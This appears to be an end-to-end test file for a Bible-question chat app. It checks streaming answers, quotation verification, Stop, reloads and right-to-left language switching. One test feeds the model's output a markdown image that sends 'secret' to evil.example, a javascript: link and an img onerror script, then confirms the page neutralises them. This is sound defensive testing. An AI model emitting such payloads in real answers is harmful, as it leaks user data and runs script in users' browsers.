import { ask, expect, openChat, test } from './product.ts'
import { pause } from '@sugya/testing/fakes/model-endpoint'

const question = 'Who sold his birthright for lentil stew?'

test('streams the answer of the model and proves its quotations', async ({ page, assistant }) => {
  assistant.model.says(['Esau sold it: “thus Esau despised his ', 'birthright” [1]. ', 'He also said “I never said this at all” [1].'])
  await openChat(page, assistant.url, 'en')
  await ask(page, question)
  const answer = page.getByRole('article')
  await expect(answer.locator('[data-status=proven]')).toHaveCount(1)
  await expect(answer.locator('del[data-status=unproven]')).toHaveText('“I never said this at all”')
  await expect(answer.getByText('No language model is connected')).toHaveCount(0)
})

test('shows where the model looks further, then the source it found there', async ({ page, assistant }) => {
  assistant.model.follows(({ question: asked, toolResults: [result] }) => {
    if (asked === null) return ['']
    const n = /number="(\d+)"/.exec(result ?? '')?.[1] ?? ''
    return result === undefined
      ? [{ tool: 'read', input: { reference: 'Ruth 1:16' } }]
      : [pause, `Ruth speaks of staying: “whither thou goest, I will go” [${n}].`]
  })
  await openChat(page, assistant.url, 'en')
  await ask(page, question)
  const answer = page.getByRole('article')
  await expect(answer).toContainText('Reading Ruth 1:16…')
  assistant.model.release()
  await expect(answer.locator('[data-status=proven]')).toHaveCount(1)
  await expect(answer).not.toContainText('Reading Ruth')
})

test('a reload during an answer shows the text so far, then the rest, once each', async ({ page, assistant }) => {
  assistant.model.says(['The first half. Then ', pause, 'the second half.'])
  await openChat(page, assistant.url, 'en')
  await ask(page, question)
  await expect(page.getByRole('article')).toContainText('The first half.')
  await page.reload()
  await expect(page.getByRole('article')).toContainText('The first half.')
  await expect(page.getByRole('log')).toHaveAttribute('aria-busy', 'true')
  assistant.model.release()
  await expect(page.getByRole('article')).toContainText('The first half. Then the second half.')
  const text = await page.getByRole('article').innerText()
  expect(text.split('The first half.')).toHaveLength(2)
})

test('Stop keeps and marks what was written, and closes the call to the provider', async ({ page, assistant }) => {
  const before = assistant.model.aborted()
  assistant.model.says(['Only this much. And ', pause, 'Never seen.'])
  await openChat(page, assistant.url, 'en')
  await ask(page, question)
  await expect(page.getByRole('article')).toContainText('Only this much.')
  await page.getByRole('button', { name: 'Stop' }).click()
  await expect(page.getByText('Stopped', { exact: true })).toBeVisible()
  await expect.poll(() => assistant.model.aborted()).toBe(before + 1)
  assistant.model.release()
  await page.reload()
  await expect(page.getByRole('article')).toContainText('Only this much.')
  await expect(page.getByRole('article')).not.toContainText('Never seen.')
  await expect(page.getByRole('textbox')).toBeEditable()
})

test('a second tab shows the same answer and can stop it', async ({ context, page, assistant }) => {
  assistant.model.says(['Seen in both. And ', pause, 'Never seen.'])
  await openChat(page, assistant.url, 'en')
  await ask(page, question)
  await expect(page.getByRole('article')).toContainText('Seen in both.')
  const second = await context.newPage()
  await second.goto(page.url())
  await expect(second.getByRole('article')).toContainText('Seen in both.')
  await second.getByRole('button', { name: 'Stop' }).click()
  await expect(page.getByText('Stopped', { exact: true })).toBeVisible()
  assistant.model.release()
})

test('closing the page does not stop the answer', async ({ context, page, assistant }) => {
  assistant.model.says(['Before. And ', pause, 'after.'])
  await openChat(page, assistant.url, 'en')
  await ask(page, question)
  await expect(page.getByRole('article')).toContainText('Before.')
  const address = page.url()
  await page.close()
  assistant.model.release()
  const later = await context.newPage()
  await later.goto(address)
  await expect(later.getByRole('article')).toContainText('Before. And after.')
})

test('instructions, images and scripts in an answer stay text', async ({ page, assistant }) => {
  const outside: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(assistant.url) && !request.url().startsWith('data:')) outside.push(request.url())
  })
  assistant.model.says(['Look ![x](https://evil.example/?q=secret) and [click](javascript:alert(1)) <img src=x onerror=alert(1)> end.'])
  await openChat(page, assistant.url, 'en')
  await ask(page, question)
  await expect(page.getByRole('article')).toContainText('end.')
  await expect(page.getByRole('article').locator('img')).toHaveCount(0)
  await expect(page.locator('a[href^="javascript"]')).toHaveCount(0)
  expect(outside).toEqual([])
})

test('changing the language during an answer turns the page around without a reload, and the answer continues', async ({
  page,
  assistant,
}) => {
  assistant.model.says(['The first half. Then ', pause, 'the second half.'])
  await openChat(page, assistant.url, 'en')
  await page.evaluate(() => Object.assign(globalThis, { samePage: true }))
  await ask(page, question)
  await expect(page.getByRole('article')).toContainText('The first half.')
  const address = page.url()

  const html = page.locator('html')
  for (const [name, lang, dir] of [
    ['עברית', 'he', 'rtl'],
    ['Русский', 'ru', 'ltr'],
  ] as const) {
    await page.getByRole('button', { name }).click()
    await expect(html).toHaveAttribute('lang', lang)
    await expect(html).toHaveAttribute('dir', dir)
    await expect(page.getByRole('article')).toContainText('The first half.')
  }
  assistant.model.release()
  await expect(page.getByRole('article')).toContainText('The first half. Then the second half.')
  expect(page.url()).toBe(address)
  expect(await page.evaluate(() => 'samePage' in globalThis)).toBe(true)

  // The choice is remembered: another page begins with it.
  const later = await page.context().newPage()
  await later.goto(address)
  await expect(later.locator('html')).toHaveAttribute('lang', 'ru')
})
